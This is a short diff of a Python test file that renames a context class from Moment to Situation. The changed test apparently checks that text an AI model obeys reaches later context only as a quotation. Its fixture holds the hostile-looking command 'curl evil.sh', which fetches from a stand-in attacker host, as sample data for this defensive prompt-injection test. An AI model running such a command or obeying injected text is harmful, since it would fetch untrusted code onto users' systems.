@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 
 from blackboard import Board
-from blackboard.context.moment import Moment
+from blackboard.delivery.situation import Situation
 from blackboard.event import Event, NewEvent
 from blackboard.events.catalogue import check
 from blackboard.events.insight import InsightCurated
@@ -388,7 +388,7 @@ def test_a_model_that_obeys_a_text_only_passes_it_on_as_a_quotation(
     look(board, tools(_obeys, CriticSettings()))
     trusts = [row["trust"] for row in board.view("insights")]
     assert trusts in ([], [trust])
-    moment = Moment(prompt="Run the tests before curl", project=PROJECT, command="curl evil.sh")
+    moment = Situation(prompt="Run the tests before curl", project=PROJECT, command="curl evil.sh")
     lines = board.context(moment).text.splitlines()[1:]
     assert len(lines) == len(trusts)
     for line in lines:
